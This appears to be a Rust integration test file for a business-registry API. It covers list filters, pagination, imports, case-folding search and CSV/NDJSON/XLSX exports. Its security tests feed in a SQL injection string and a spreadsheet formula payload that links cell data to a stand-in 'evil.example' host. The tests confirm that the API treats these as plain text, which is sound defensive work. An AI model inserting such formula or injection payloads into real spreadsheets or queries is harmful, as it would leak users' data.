//! Business and product lists: filters, sorting, keyset pages, counts and streamed exports.

use std::collections::HashSet;

use serde_json::{Value, json};
use umkm_api::domain::role::Role;

use crate::helpers::{TestApp, business_json, spawn_app};

/// Seeds `n` businesses directly through the import endpoint; returns an officer token.
async fn seeded(app: &TestApp, n: usize, shape: impl Fn(usize, &mut Value)) -> String {
    let officer = app.token_for(Role::Officer).await;
    let rows: Vec<Value> = (0..n)
        .map(|i| {
            let mut b = business_json(i);
            shape(i, &mut b);
            b
        })
        .collect();
    let reply = app.post("/api/v1/businesses/import").token(&officer).json(&json!(rows)).send().await;
    assert_eq!(reply.status, 201, "{}", String::from_utf8_lossy(&reply.body));
    officer
}

/// Follows `next_cursor` to the end; returns the ids in order.
async fn walk(app: &TestApp, token: &str, first: &str, mut between: impl AsyncFnMut(usize)) -> Vec<i64> {
    let mut ids = Vec::new();
    let mut path = first.to_owned();
    let mut pages = 0;
    loop {
        let reply = app.get(&path).token(token).send().await;
        assert_eq!(reply.status, 200, "{}", String::from_utf8_lossy(&reply.body));
        let page = reply.json();
        ids.extend(page["data"].as_array().unwrap().iter().map(|b| b["id"].as_i64().unwrap()));
        pages += 1;
        between(pages).await;
        match page["next_cursor"].as_str() {
            Some(cursor) => {
                let sep = if first.contains('?') { '&' } else { '?' };
                path = format!("{first}{sep}cursor={cursor}");
            }
            None => return ids,
        }
    }
}

#[actix_rt::test]
async fn pages_visit_every_row_once_while_rows_are_added() {
    let app = spawn_app().await;
    let officer = seeded(&app, 120, |i, b| b["name"] = json!(format!("Usaha {:03}", (i * 37) % 120))).await;
    let existing: HashSet<i64> =
        walk(&app, &officer, "/api/v1/businesses?limit=500", async |_| {}).await.into_iter().collect();
    assert_eq!(existing.len(), 120);

    let mut extra = 1000;
    for sort in ["id", "name", "-created_at", "-name,id", "updated_at"] {
        let ids = walk(&app, &officer, &format!("/api/v1/businesses?limit=25&sort={sort}"), async |_| {
            extra += 1;
            app.create_business(&officer, &business_json(extra)).await;
        })
        .await;
        let unique: HashSet<i64> = ids.iter().copied().collect();
        assert_eq!(unique.len(), ids.len(), "{sort}: a row was visited twice");
        assert!(existing.is_subset(&unique), "{sort}: a row was missed");
    }
    // The name order is the order of the names.
    let page = app.get("/api/v1/businesses?sort=-name&limit=3").token(&officer).send().await.json();
    let names: Vec<&str> =
        page["data"].as_array().unwrap().iter().map(|b| b["name"].as_str().unwrap()).collect();
    assert_eq!(names[0], "Usaha 119");
    assert!(names.windows(2).all(|w| w[0] >= w[1]));
}

#[actix_rt::test]
async fn filters_combine_and_count() {
    let app = spawn_app().await;
    let officer = seeded(&app, 40, |i, b| {
        b["district_code"] = json!(if i % 2 == 0 { "35.24.05" } else { "35.24.14" });
        b["kbli"] = json!(if i % 4 == 0 { "47111" } else { "10750" });
        b["annual_revenue_idr"] = if i % 5 == 0 { Value::Null } else { json!(3_000_000_000i64) };
        b["capital_idr"] = if i % 5 == 0 { Value::Null } else { json!(1) };
        b["established_on"] = json!(format!("{}-01-01", 1980 + i));
        b["name"] = json!(if i == 3 { "Batik 100% Tulis_Asli" } else { "Usaha" });
    })
    .await;
    let total = |query: &'static str| {
        let app = &app;
        let officer = officer.clone();
        async move {
            let reply = app
                .get(&format!("/api/v1/businesses?count=true&limit=1&{query}"))
                .token(&officer)
                .send()
                .await;
            assert_eq!(reply.status, 200, "{query}: {}", String::from_utf8_lossy(&reply.body));
            reply.json()["total"].as_i64().unwrap()
        }
    };
    assert_eq!(total("district=35.24.05").await, 20);
    assert_eq!(total("is_ikm=false").await, 10);
    assert_eq!(total("kbli=47111").await, 10);
    assert_eq!(total("kbli=10").await, 30);
    assert_eq!(total("scale=unknown").await, 8);
    assert_eq!(total("scale=kecil").await, 32);
    assert_eq!(total("scale=kecil&district=35.24.05&is_ikm=true").await, 8);
    assert_eq!(total("established_from=1990-01-01&established_to=1999-12-31").await, 10);
    assert_eq!(total("q=batik").await, 1);
    assert_eq!(total("q=100%25").await, 1, "% is a character, not a wildcard");
    assert_eq!(total("q=s_a").await, 1, "_ is a character, not a wildcard");
    assert_eq!(total("q=%27%20OR%201%3D1%20--").await, 0, "an injection attempt is a string");
    assert_eq!(total("status=active").await, 40);
    assert_eq!(total("updated_since=2999-01-01T00:00:00Z").await, 0);

    for bad in [
        "scale=huge",
        "district=35.24",
        "kbli=1",
        "is_ikm=maybe",
        "sort=owner_nik",
        "sort=name,",
        "established_from=yesterday",
        "cursor=abc",
        "limit=0",
        "colour=red",
    ] {
        app.get(&format!("/api/v1/businesses?{bad}")).token(&officer).send().await.assert_problem(400);
    }
    // The shared filters are checked the same way on every list that has them.
    let long_q = format!("/api/v1/outlets?q={}", "a".repeat(201));
    for bad in ["/api/v1/outlets?district=35.24", "/api/v1/placements?district=x", &long_q] {
        app.get(bad).token(&officer).send().await.assert_problem(400);
    }
    // A key named twice keeps its first place: the same order as naming it once.
    let once = app.get("/api/v1/businesses?sort=-name&limit=5").token(&officer).send().await.json();
    let twice = app.get("/api/v1/businesses?sort=-name,name&limit=5").token(&officer).send().await.json();
    assert_eq!(once["data"], twice["data"]);
    // A cursor is bound to the sort it was issued for.
    let page = app.get("/api/v1/businesses?limit=2&sort=name").token(&officer).send().await.json();
    let cursor = page["next_cursor"].as_str().unwrap();
    app.get(&format!("/api/v1/businesses?sort=id&cursor={cursor}"))
        .token(&officer)
        .send()
        .await
        .assert_problem(400);
}

#[actix_rt::test]
async fn an_incremental_pull_returns_exactly_what_changed() {
    let app = spawn_app().await;
    let officer = seeded(&app, 10, |_, _| {}).await;
    let all = app.get("/api/v1/businesses?sort=updated_at").token(&officer).send().await.json();
    std::thread::sleep(std::time::Duration::from_millis(5));
    let changed_id = all["data"][3]["id"].as_i64().unwrap();
    let changed = app
        .patch(&format!("/api/v1/businesses/{changed_id}"))
        .token(&officer)
        .json(&json!({"village": "Sendangharjo"}))
        .send()
        .await
        .json();
    let fresh = app.create_business(&officer, &business_json(99)).await;

    // The bound is inclusive: a client passes the newest updated_at it has seen.
    let since = changed["updated_at"].as_str().unwrap().replace('+', "%2B");
    let pulled = app
        .get(&format!("/api/v1/businesses?sort=updated_at&updated_since={since}"))
        .token(&officer)
        .send()
        .await
        .json();
    let ids: Vec<i64> =
        pulled["data"].as_array().unwrap().iter().map(|b| b["id"].as_i64().unwrap()).collect();
    assert_eq!(ids, [changed_id, fresh["id"].as_i64().unwrap()]);
    assert_eq!(pulled["data"][0]["village"], "Sendangharjo");
}

#[actix_rt::test]
async fn csv_and_ndjson_exports_match_the_json_list() {
    let app = spawn_app().await;
    let officer = seeded(&app, 1234, |i, b| {
        b["district_code"] = json!(if i % 3 == 0 { "35.24.05" } else { "35.24.14" })
    })
    .await;
    let viewer = app.token_for(Role::Viewer).await;
    for (token, label) in [(&officer, "officer"), (&viewer, "viewer")] {
        let mut listed: Vec<Value> = Vec::new();
        let mut path = "/api/v1/businesses?district=35.24.05&limit=500&sort=-name".to_owned();
        loop {
            let page = app.get(&path).token(token).send().await.json();
            listed.extend(page["data"].as_array().unwrap().iter().cloned());
            match page["next_cursor"].as_str() {
                Some(c) => {
                    path = format!("/api/v1/businesses?district=35.24.05&limit=500&sort=-name&cursor={c}")
                }
                None => break,
            }
        }
        assert_eq!(listed.len(), 412);

        let ndjson = app
            .get("/api/v1/businesses?district=35.24.05&sort=-name&limit=5")
            .token(token)
            .header("accept", "application/x-ndjson")
            .send()
            .await;
        assert_eq!(ndjson.status, 200);
        assert_eq!(ndjson.header("content-type").as_deref(), Some("application/x-ndjson"));
        let lines: Vec<Value> = String::from_utf8(ndjson.body.clone())
            .unwrap()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        assert_eq!(lines, listed, "{label}: NDJSON is the list, unpaged");

        let csv = app
            .get("/api/v1/businesses?district=35.24.05&sort=-name")
            .token(token)
            .header("accept", "text/csv")
            .send()
            .await;
        assert_eq!(csv.status, 200);
        assert!(csv.header("content-type").unwrap().starts_with("text/csv"));
        let mut reader = csv::Reader::from_reader(csv.body.as_slice());
        let headers = reader.headers().unwrap().clone();
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(rows.len(), listed.len());
        for (row, json) in rows.iter().zip(&listed) {
            for (name, cell) in headers.iter().zip(row.iter()) {
                let expected = match &json[name] {
                    Value::Null => String::new(),
                    // A masked phone (`+62812****233`) is no number to a spreadsheet: it is
                    // quoted as a formula would be (see csv_exports_carry_no_live_formulas).
                    Value::String(s) if s.starts_with('+') && s.contains('*') => format!("'{s}"),
                    Value::String(s) => s.clone(),
                    other => other.to_string(),
                };
                assert_eq!(cell, expected, "{label}: column {name}");
            }
        }
        if label == "viewer" {
            let nik = headers.iter().position(|h| h == "owner_nik").unwrap();
            assert!(rows.iter().all(|r| r[nik].contains("****")), "NIKs stay masked in exports");
        }
    }
    // An export of nothing is a header line only.
    let empty = app
        .get("/api/v1/businesses?district=35.24.01")
        .token(&officer)
        .header("accept", "text/csv")
        .send()
        .await;
    assert_eq!(String::from_utf8(empty.body).unwrap().lines().count(), 1);
}

#[actix_rt::test]
async fn an_import_with_bad_rows_writes_nothing_and_names_them_all() {
    let app = spawn_app().await;
    let officer = app.token_for(Role::Officer).await;
    let mut rows: Vec<Value> = (0..1000).map(business_json).collect();
    rows[10]["owner_nik"] = json!("3524057203900001");
    rows[499]["district_code"] = json!("35.24.99");
    rows[999]["nib"] = rows[0]["nib"].clone();
    let problem = app
        .post("/api/v1/businesses/import")
        .token(&officer)
        .json(&json!(rows))
        .send()
        .await
        .assert_problem(422);
    let fields: Vec<&str> =
        problem["errors"].as_array().unwrap().iter().map(|e| e["field"].as_str().unwrap()).collect();
    assert_eq!(fields, ["rows[11].owner_nik", "rows[500].district_code", "rows[1000].nib"]);
    assert_eq!(app.count("businesses"), 0);
    assert_eq!(app.count("audit_log WHERE entity <> 'user'"), 0);

    rows[10] = business_json(10);
    rows[499] = business_json(499);
    rows[999] = business_json(999);
    let reply = app.post("/api/v1/businesses/import").token(&officer).json(&json!(rows)).send().await;
    assert_eq!(reply.status, 201);
    assert_eq!(reply.json(), json!({"created": 1000}));
    assert_eq!(app.count("businesses"), 1000);
    assert_eq!(app.count("audit_log WHERE entity = 'business'"), 1000);
    // Each row's owner is a new person (a NIK of its own), audited as such.
    assert_eq!(app.count("persons"), 1000);
    assert_eq!(app.count("audit_log WHERE entity = 'person'"), 1000);

    // A NIB that is already registered is a bad row too.
    let problem = app
        .post("/api/v1/businesses/import")
        .token(&officer)
        .json(&json!([business_json(5000), business_json(5)]))
        .send()
        .await
        .assert_problem(422);
    assert_eq!(problem["errors"][0]["field"], "rows[2].nib");
    assert_eq!(app.count("businesses"), 1000);
}

#[actix_rt::test]
async fn a_csv_import_uses_the_json_field_names() {
    let app = spawn_app().await;
    let officer = app.token_for(Role::Officer).await;
    let csv = "name,owner_name,owner_nik,phone,kbli,district_code,address,annual_revenue_idr,employees,nib\n\
               Kripik Bu Sri,Sri,3524055203900002,0812-3456-789,10750,35.24.14,\"Jl. Raya, 12\",480000000,6,\n\
               Batik Pak Budi,Budi,3524051203900003,0813-1111-2222,13912,35.24.05,Jl. Babat,,2,9120000000001\n";
    let reply = app.post("/api/v1/businesses/import").token(&officer).raw("text/csv", csv).send().await;
    assert_eq!(reply.status, 201, "{}", String::from_utf8_lossy(&reply.body));
    assert_eq!(reply.json()["created"], 2);
    let list = app.get("/api/v1/businesses?sort=name").token(&officer).send().await.json();
    assert_eq!(list["data"][0]["name"], "Batik Pak Budi");
    assert_eq!(list["data"][0]["annual_revenue_idr"], Value::Null);
    assert_eq!(list["data"][1]["address"], "Jl. Raya, 12");
    assert_eq!(list["data"][1]["scale"], "mikro");

    let bad = "name,colour\nA,red\n";
    let problem = app
        .post("/api/v1/businesses/import")
        .token(&officer)
        .raw("text/csv", bad)
        .send()
        .await
        .assert_problem(422);
    assert!(problem["errors"].as_array().unwrap().iter().any(|e| e["field"] == "rows[1].colour"));
    // Nothing to import: a header alone, a CSV that is not one, an empty JSON array.
    for (content_type, body) in
        [("text/csv", "name,owner_name\n"), ("text/csv", "[]"), ("application/json", "[]")]
    {
        let problem = app
            .post("/api/v1/businesses/import")
            .token(&officer)
            .raw(content_type, body)
            .send()
            .await
            .assert_problem(422);
        assert_eq!(problem["errors"][0]["field"], "rows", "{content_type} {body}");
    }
    app.post("/api/v1/businesses/import")
        .token(&officer)
        .raw("application/xml", "<a/>")
        .send()
        .await
        .assert_problem(415);
    app.post("/api/v1/businesses/import")
        .token(&officer)
        .json(&json!({"rows": []}))
        .send()
        .await
        .assert_problem(422);
    assert_eq!(app.count("businesses"), 2);
}

/// `q` folds case beyond ASCII alike on both back ends (SQLite's own `lower()` folds ASCII
/// only), and finds names in scripts without case as they are.
#[actix_rt::test]
async fn a_search_folds_accented_and_non_latin_names_on_both_back_ends() {
    let app = spawn_app().await;
    let officer = app.token_for(Role::Officer).await;
    let names = [
        "Kedai ÉLOK Ñusantara",
        "Батик ЛАМОНГАН",
        "ΚΑΦΕ Λαμόνγκαν",
        "ꦧꦠꦶꦏ꧀ ꦭꦩꦺꦴꦔꦤ꧀",
        "茶馆 Lamongan",
        "Toko Elok",
    ];
    for (n, name) in names.iter().enumerate() {
        let mut body = business_json(n);
        body["name"] = json!(name);
        app.create_business(&officer, &body).await;
    }
    let encode = |text: &str| -> String {
        text.bytes()
            .map(|b| if b.is_ascii_alphanumeric() { (b as char).to_string() } else { format!("%{b:02X}") })
            .collect()
    };
    for (q, found) in [
        ("élok", vec!["Kedai ÉLOK Ñusantara"]),
        ("ÉLOK ñ", vec!["Kedai ÉLOK Ñusantara"]),
        ("ñusantara", vec!["Kedai ÉLOK Ñusantara"]),
        ("elok", vec!["Toko Elok"]),
        ("батик", vec!["Батик ЛАМОНГАН"]),
        ("ламонган", vec!["Батик ЛАМОНГАН"]),
        ("καφε", vec!["ΚΑΦΕ Λαμόνγκαν"]),
        ("ΛΑΜΌΝΓΚΑΝ", vec!["ΚΑΦΕ Λαμόνγκαν"]),
        ("ꦭꦩꦺꦴꦔꦤ꧀", vec!["ꦧꦠꦶꦏ꧀ ꦭꦩꦺꦴꦔꦤ꧀"]),
        ("茶", vec!["茶馆 Lamongan"]),
        ("LAMONGAN", vec!["茶馆 Lamongan"]),
    ] {
        let path = format!("/api/v1/businesses?count=true&q={}", encode(q));
        let page = app.get(&path).token(&officer).send().await;
        assert_eq!(page.status, 200, "{q}: {}", String::from_utf8_lossy(&page.body));
        let page = page.json();
        let got: Vec<&str> =
            page["data"].as_array().unwrap().iter().map(|b| b["name"].as_str().unwrap()).collect();
        assert_eq!(got, found, "q={q}");
        assert_eq!(page["total"], found.len(), "q={q}: the count scans with the same folding");
    }
}

/// Issue 28, item 10: text a spreadsheet would run as a formula (starting with `=`, `+`, `-`,
/// `@`, a tab or a carriage return) is written to every CSV with a leading `'`, shown as text;
/// numbers stay numbers, and NDJSON keeps the text exact.
#[actix_rt::test]
async fn csv_exports_carry_no_live_formulas() {
    let app = spawn_app().await;
    let officer = app.token_for(Role::Officer).await;
    let retail = app.token_for(Role::Retail).await;
    let formula = r#"=HYPERLINK("https://evil.example/?d="&A2,"open")"#;
    let names = [formula, "@SUM(1+1)", "+62 812 3", "-2+3", "Toko Biasa"];
    for (n, name) in names.iter().enumerate() {
        let mut body = business_json(n + 1);
        body["name"] = json!(name);
        app.create_business(&officer, &body).await;
    }
    let reply = app
        .post("/api/v1/outlets")
        .token(&retail)
        .json(&json!({"code": "EVIL-1", "name": formula, "district_code": "35.24.05"}))
        .send()
        .await;
    assert_eq!(reply.status, 201, "{}", String::from_utf8_lossy(&reply.body));

    let cells = |body: &[u8], column: &str| -> Vec<String> {
        let mut reader = csv::Reader::from_reader(body);
        let at = reader.headers().unwrap().iter().position(|h| h == column).unwrap();
        reader.records().map(|r| r.unwrap()[at].to_owned()).collect()
    };
    let export = |path: &'static str, accept: &'static str| {
        app.get(path).token(&officer).header("accept", accept).send()
    };
    let csv = export("/api/v1/businesses?sort=id", "text/csv").await;
    assert_eq!(csv.status, 200);
    let expected: Vec<String> = names
        .iter()
        .map(|n| if n.starts_with(['=', '+', '-', '@']) { format!("'{n}") } else { (*n).to_owned() })
        .collect();
    assert_eq!(cells(&csv.body, "name"), expected);
    let employees = cells(&csv.body, "employees");
    assert!(employees.iter().all(|e| e.parse::<i64>().is_ok()), "numbers stay numbers: {employees:?}");
    let outlets = export("/api/v1/outlets", "text/csv").await;
    assert!(
        cells(&outlets.body, "name").contains(&format!("'{formula}")),
        "{}",
        String::from_utf8_lossy(&outlets.body)
    );

    let ndjson = export("/api/v1/businesses?sort=id", "application/x-ndjson").await;
    let exact: Vec<String> = String::from_utf8(ndjson.body)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap()["name"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(exact, names);
}

/// The text of `name` in the XLSX (zip) `bytes`.
fn xlsx_part(bytes: &[u8], name: &str) -> String {
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).expect("an XLSX is a zip archive");
    let mut text = String::new();
    std::io::Read::read_to_string(&mut archive.by_name(name).expect("the part is there"), &mut text).unwrap();
    text
}

/// Issue 29: an XLSX export holds the list's rows with every NIK, NIB and phone whole, as
/// text (opened from CSV, a spreadsheet keeps 15 digits of a 16-digit NIK); a text starting
/// with `=` is a text, never a formula; the statistics' tables export the same way.
#[actix_rt::test]
async fn an_xlsx_export_keeps_identity_numbers_whole_as_text() {
    const XLSX: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
    let app = spawn_app().await;
    let officer = seeded(&app, 3, |n, b| {
        if n == 2 {
            b["name"] = json!("=HYPERLINK(\"https://evil.example\")");
        }
    })
    .await;
    let nik = business_json(1)["owner_nik"].as_str().unwrap().to_owned();
    let reply = app.get("/api/v1/businesses").token(&officer).header("accept", XLSX).send().await;
    assert_eq!(reply.status, 200, "{}", String::from_utf8_lossy(&reply.body));
    assert_eq!(reply.header("content-type").as_deref(), Some(XLSX));
    let sheet = xlsx_part(&reply.body, "xl/worksheets/sheet1.xml");
    assert_eq!(sheet.matches("<row ").count(), 4, "a header and three rows: {sheet}");
    assert!(sheet.contains(&format!("<t>{nik}</t>")), "the NIK whole, as a text cell");
    assert!(!sheet.contains(&format!("<v>{nik}</v>")), "not a number");
    assert!(sheet.contains("<t>+628120000001</t>"), "the phone as text: {sheet}");
    assert!(!sheet.contains("<f>"), "no formula");
    assert!(sheet.contains("<t>owner_nik</t>") && sheet.contains("<t>=HYPERLINK("), "{sheet}");

    // A viewer's export is masked as its pages are; an empty one still has its header row.
    let viewer = app.token_for(Role::Viewer).await;
    let masked = app.get("/api/v1/businesses").token(&viewer).header("accept", XLSX).send().await;
    let sheet = xlsx_part(&masked.body, "xl/worksheets/sheet1.xml");
    assert!(!sheet.contains(&nik) && sheet.contains("<t>3524********"), "{sheet}");
    let none =
        app.get("/api/v1/businesses?district=35.24.01").token(&officer).header("accept", XLSX).send().await;
    let sheet = xlsx_part(&none.body, "xl/worksheets/sheet1.xml");
    assert_eq!(sheet.matches("<row ").count(), 1, "{sheet}");
    assert!(sheet.contains("<t>owner_nik</t>"));

    let stats = app.get("/api/v1/stats/overview").token(&officer).header("accept", XLSX).send().await;
    assert_eq!((stats.status.as_u16(), stats.header("content-type").as_deref()), (200, Some(XLSX)));
    let sheet = xlsx_part(&stats.body, "xl/worksheets/sheet1.xml");
    assert!(sheet.contains("<t>businesses.total</t>"), "{sheet}");
}

#[actix_rt::test]
async fn a_sort_is_taken_exactly_when_the_documents_pattern_matches_it() {
    let app = spawn_app().await;
    let token = app.token_for(Role::Officer).await;
    let document = app.get("/api-docs/openapi.json").send().await.json();
    let parameters = document["paths"]["/api/v1/businesses"]["get"]["parameters"].as_array().unwrap().clone();
    let sort = parameters.iter().find(|p| p["name"] == "sort").unwrap();
    let pattern = regex_lite::Regex::new(sort["schema"]["pattern"].as_str().unwrap()).unwrap();
    // Spaces around keys are taken (the ASCII ones the pattern names), anything else is 400.
    for raw in ["", "\n", " name ", "-name", "name , +id", "name,", ",name", "- name", "\u{a0}name", "owner"]
    {
        let encoded: String = raw.bytes().map(|b| format!("%{b:02X}")).collect();
        let reply = app.get(&format!("/api/v1/businesses?sort={encoded}")).token(&token).send().await;
        assert_eq!(pattern.is_match(raw), reply.status == 200, "{raw:?}: {}", reply.status);
    }
}
